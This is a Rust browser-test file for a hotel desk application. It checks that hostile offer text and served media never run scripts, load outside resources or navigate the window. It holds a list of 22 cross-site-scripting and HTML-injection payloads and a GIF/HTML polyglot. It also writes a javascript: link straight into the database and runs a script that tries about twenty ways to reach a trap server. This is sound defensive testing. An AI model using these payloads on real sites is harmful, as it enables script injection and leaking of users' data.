//! A text that a user stores in an offer never runs, loads or navigates in the real window.

use demo_hotel::{Action, DemoHotel, FaultPlan, Rule, StatusFault};
use desk_tests::test_desk::token;
use desk_tests::window::{Fixture, Trap, Window, until};
use hotelmate_core::hotel::{Api, Http};
use hotelmate_core::resources::Kind;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// Attacks on the page that shows the offer. `TRAP` is a server that must never receive a connection; `HIT` is a script
/// that shows that scripts run.
const ATTACKS: [&str; 22] = [
    "<script>HIT</script>",
    "<img src=x onerror=\"HIT\">",
    "<img src=http://TRAP/img>",
    "<svg onload=\"HIT\"><script>HIT</script></svg>",
    "<svg><image href=http://TRAP/svg /><use href=http://TRAP/use#x /></svg>",
    "<a href=\"javascript:HIT\">press</a>",
    "<a href=\"http://TRAP/link\" ping=http://TRAP/ping target=_blank>leave</a>",
    "<iframe src=http://TRAP/frame srcdoc=\"<script>top.HIT</script>\"></iframe>",
    "<style>@import url(http://TRAP/style); body { background: url(http://TRAP/body); display: none !important }</style>",
    "<p style=\"position:fixed;inset:0;background:url(http://TRAP/paragraph)\">styled</p>",
    "<link rel=stylesheet href=http://TRAP/sheet>",
    "<link rel=preconnect href=http://TRAP><link rel=prefetch href=http://TRAP/prefetch>",
    "<meta http-equiv=refresh content=\"0;url=http://TRAP/refresh\">",
    "<base href=http://TRAP/>",
    "<form action=http://TRAP/form><button autofocus onfocus=\"HIT\">send</button></form>",
    "<video src=http://TRAP/video poster=http://TRAP/poster onloadstart=\"HIT\" autoplay></video>",
    "<object data=http://TRAP/object></object><embed src=http://TRAP/embed>",
    "<details open ontoggle=\"HIT\"><summary>more</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"HIT\"></style></mglyph></table></mtext></math>",
    "<input autofocus onfocus=\"HIT\"><body onload=\"HIT\"><marquee onstart=\"HIT\">",
    "\"><img src=x onerror=\"HIT\">{{constructor.constructor('HIT')()}}${HIT}",
    "<noscript><p title=\"</noscript><img src=x onerror='HIT'>\"></noscript>",
];

/// The script in the attacks: it sets a mark that the test finds.
const HIT: &str = "window.__canary = 'hit'";

/// Returns the mark, if a script has set it.
const CANARY: &str = "return window.__canary ?? null";

fn attacks(trap: &Trap) -> String {
    ATTACKS.concat().replace("HIT", HIT).replace("TRAP", trap.address())
}

/// Stores two hostile offers: one with all attacks in every text, one whose link runs a script.
async fn store_attacks(hotel: &DemoHotel, trap: &Trap) {
    let url = url::Url::parse(&hotel.url()).unwrap();
    let api = Api::new(Http::new().unwrap(), url, hotel.slug().to_owned(), token(hotel, 0).await);
    let all = attacks(trap);
    let content = Kind::Offer
        .table()
        .blank()
        .with("title", format!("Hostile {}", ATTACKS[1].replace("HIT", HIT)))
        .with("short_description", all.chars().take(200).collect::<String>())
        .with("details_text", all.clone())
        .with("details_html", all)
        .with("tag", "<svg/onload=HIT>".replace("HIT", HIT).chars().take(50).collect::<String>())
        .with("book_now_url", format!("http://{}/book", trap.address()));
    api.create(Kind::Offer, &content).await.unwrap();
}

/// Writes a value that the hotel's checks refuse into the hotel's file.
fn store_hostile_link(file: &std::path::Path) {
    let db = rusqlite::Connection::open(file).unwrap();
    let changed = db
        .execute(
            "UPDATE offers SET row = json_set(row, '$.book_now_url', ?1, '$.details_text', row ->> 'details_html') \
             WHERE row ->> 'title' LIKE 'Hostile%'",
            [format!("javascript:{HIT}")],
        )
        .unwrap();
    assert_eq!(changed, 1);
}

/// Returns a page that begins like a picture.
fn page_as_picture(trap: &Trap) -> Value {
    json!(format!(
        "GIF89a/*<html><body onload=\"{HIT}\"><script src=http://{}/x></script>*/=1;{HIT}",
        trap.address()
    ))
}

async fn unharmed(window: &Window, trap: &Trap, home: &Value) {
    // The attacks have had time to load or to run: the page has loaded everything by then.
    window.run_async("setTimeout(arguments[0], 250)", vec![]).await;
    assert_eq!(window.run(CANARY, vec![]).await, Value::Null, "script of an offer has run");
    assert_eq!(&window.run("return location.href", vec![]).await, home, "the window has left its page");
    assert_eq!(
        window.count("iframe, object, embed, video, form[action], base, svg [href], .safe-html img").await,
        0
    );
    assert!(trap.calls().is_empty(), "something was loaded from elsewhere: {:?}", trap.calls());
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_and_pictures_never_run_load_or_navigate() {
    let mut fixture = Fixture::set("hostile").await;
    let trap = Trap::set().await;
    store_attacks(fixture.hotel(), &trap).await;
    fixture.close_hotel().await;
    store_hostile_link(&fixture.hotel_file());
    fixture.open_hotel().await;
    let page =
        |body| Rule::new(Action::Status(StatusFault { code: 200, body: Some(body) })).path("*/media/*");
    let plain = json!(format!("<html>{}</html>", attacks(&trap)));
    let plan = FaultPlan::of([page(plain).times(5), page(page_as_picture(&trap))]);
    fixture.hotel().set_faults(plan).unwrap();

    let window = fixture.open_window().await;
    let home = window.run("return location.href", vec![]).await;
    let person = fixture.person();
    window.sign_in(&person.username, &person.password).await;
    window.until_pill("saved").await;
    until("the pictures to be fetched", async || {
        let pictures = fixture.hotel().requests().iter().filter(|one| one.path.contains("/media/")).count();
        (pictures >= 10).then_some(())
    })
    .await;
    unharmed(&window, &trap, &home).await;
    window.shot("pictures").await;
    window.fill("offers-search", "Hostile").await;
    let hostile = "[data-testid=offer-card][data-title^=Hostile]";
    window.until_there(hostile).await;
    window.shot("card").await;
    unharmed(&window, &trap, &home).await;

    window.press_at(&format!("{hostile} [data-testid=offer-edit]")).await;
    window.until_there("[data-testid=editor-details_html]").await;
    window.press_at("[data-testid=editor-preview] summary").await;
    window.until_there("[data-testid=editor-preview] a").await;
    window.shot("editor").await;
    unharmed(&window, &trap, &home).await;
    for place in ["[data-testid=editor-preview] a", "[data-testid=editor-details_html] a"] {
        window.press_at(place).await;
        unharmed(&window, &trap, &home).await;
    }
}

/// Every way in which a page can reach the network. Each puts its outcome into a list; none may succeed.
const WAYS_OUT: &str = "
    const [trap, done] = [arguments[0], arguments[arguments.length - 1]];
    const http = `http://${trap}/`;
    const attempt = (name, way) => new Promise((settle) => {
        const end = (outcome) => settle(`${name}: ${outcome}`);
        try { way(() => end('reached'), () => end('refused')); } catch (error) { end('refused'); }
        setTimeout(() => end('silent'), 700);
    });
    const element = (tag, set) => (ok, no) => {
        const made = document.createElement(tag);
        Object.assign(made, set, { onload: ok, onerror: no, onloadeddata: ok });
        document.body.append(made);
    };
    const submit = (ok, no) => {
        const form = document.createElement('form');
        Object.assign(form, { action: http + 'form', method: 'post' });
        document.body.append(form);
        form.submit();
    };
    const styled = () => {
        document.body.style.backgroundImage = `url(${http}background)`;
        const sheet = document.createElement('style');
        sheet.textContent = `@import url(${http}import); @font-face { font-family: x; src: url(${http}font) } body { font-family: x }`;
        document.head.append(sheet);
    };
    Promise.all([
        attempt('fetch', (ok, no) => fetch(http + 'fetch', { mode: 'no-cors' }).then(ok, no)),
        attempt('xhr', (ok, no) => {
            const request = new XMLHttpRequest();
            Object.assign(request, { onload: ok, onerror: no });
            request.open('GET', http + 'xhr');
            request.send();
        }),
        attempt('socket', (ok, no) => Object.assign(new WebSocket(`ws://${trap}/`), { onopen: ok, onerror: no })),
        attempt('events', (ok, no) => Object.assign(new EventSource(http + 'events'), { onopen: ok, onerror: no })),
        attempt('beacon', (ok, no) => (navigator.sendBeacon(http + 'beacon', 'x'), no())),
        attempt('worker', (ok, no) => Object.assign(new Worker(http + 'worker'), { onerror: no })),
        attempt('import', (ok, no) => import(http + 'module.js').then(ok, no)),
        attempt('image', element('img', { src: http + 'image' })),
        attempt('script', element('script', { src: http + 'script' })),
        attempt('sheet', element('link', { rel: 'stylesheet', href: http + 'sheet' })),
        attempt('prefetch', element('link', { rel: 'prefetch', href: http + 'prefetch' })),
        attempt('preload', element('link', { rel: 'preload', as: 'image', href: http + 'preload' })),
        attempt('preconnect', element('link', { rel: 'preconnect', href: http })),
        attempt('frame', element('iframe', { src: http + 'frame' })),
        attempt('object', element('object', { data: http + 'object' })),
        attempt('video', element('video', { src: http + 'video' })),
        attempt('style', styled),
        attempt('form', submit),
        attempt('window', (ok, no) => (window.open(http + 'window') ? ok() : no())),
        attempt('address', () => { location.href = http + 'address'; }),
    ]).then(done);";

#[tokio::test(flavor = "multi_thread")]
async fn the_page_itself_reaches_no_network_address() {
    let fixture = Fixture::set("no-network").await;
    let window = fixture.open_signed_in().await;
    let home = window.run("return location.href", vec![]).await;
    let trap = Trap::set().await;
    let outcomes = window.run_async(WAYS_OUT, vec![json!(trap.address())]).await;
    let outcomes: Vec<&str> = outcomes.as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert_eq!(outcomes.len(), 20, "{outcomes:?}");
    assert!(trap.calls().is_empty(), "{:?}; {outcomes:?}", trap.calls());
    let frameless = |outcome: &&&str| !["frame:", "object:"].iter().any(|name| outcome.starts_with(name));
    // A refused frame reports that it has loaded an empty page. The trap shows that it has made no connection.
    let reached: Vec<_> = outcomes.iter().filter(frameless).filter(|one| one.ends_with("reached")).collect();
    assert!(reached.is_empty(), "{reached:?}");
    assert_eq!(window.run("return location.href", vec![]).await, home);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_canary_and_the_trap_would_notice() {
    let fixture = Fixture::set("canary").await;
    let window = fixture.open_window().await;
    window.until_there("[data-testid=signin-submit]").await;
    assert_eq!(window.run(CANARY, vec![]).await, Value::Null);
    window.run(HIT, vec![]).await;
    assert_eq!(window.run(CANARY, vec![]).await, "hit");

    let trap = Trap::set().await;
    let mut call = TcpStream::connect(trap.address()).await.unwrap();
    until("a wordless call", async || (trap.calls().len() == 1).then_some(())).await;
    call.write_all(b"GET /canary HTTP/1.1\r\n").await.unwrap();
    until("a call", async || (trap.calls() == ["GET /canary HTTP/1.1"]).then_some(())).await;
}
